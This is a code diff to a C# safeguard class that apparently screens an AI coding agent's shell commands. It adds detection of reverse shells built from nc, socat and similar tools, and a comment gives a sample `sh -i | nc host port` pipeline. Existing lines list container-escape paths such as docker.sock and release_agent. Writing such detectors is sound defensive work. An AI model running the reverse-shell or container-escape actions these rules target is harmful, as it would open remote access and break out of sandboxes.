@@ -1,5 +1,6 @@
 using ClaudeCodeProxy.Safeguards.Facts;
 using ContainerSecurity.Shell.Flow;
+using ContainerSecurity.Shell.Programs.Table;
 
 namespace ClaudeCodeProxy.Safeguards.Flags;
 
@@ -11,8 +12,20 @@ internal sealed class NetworkFlags(Scene scene)
     private static readonly string[] HostPaths =
         ["docker.sock", "containerd.sock", "crio.sock", "podman.sock", "/proc/1/root", "release_agent", "/proc/sys/kernel/core_pattern"];
 
+    private static readonly string[] Connecting = ["nc", "ncat", "netcat", "telnet", "socat", "openssl"];
+
+    private int _shellLine;
+    private int _connectedLine;
+
     public void Look(Call call)
     {
+        // `cat pipe | sh -i | nc host port > pipe`.
+        if (call.Spec.Act == Act.Shell && call.Words.Any(static word => word.Text is ['-', not '-', ..] && word.Text.Contains('i')))
+            _shellLine = call.Streams.Line;
+        if (Connecting.Holds(call.Name))
+            _connectedLine = call.Streams.Line;
+        if (_shellLine > 0 && _shellLine == _connectedLine)
+            scene.Flag(FlagRules.RemoteShell, call);
         if (call.Name is "nc" or "ncat" or "netcat" && HasProgram(call))
             scene.Flag(FlagRules.RemoteShell, call);
         if (call.Name == "socat" && call.Words.Any(static word => IsProgram(word.Text)))
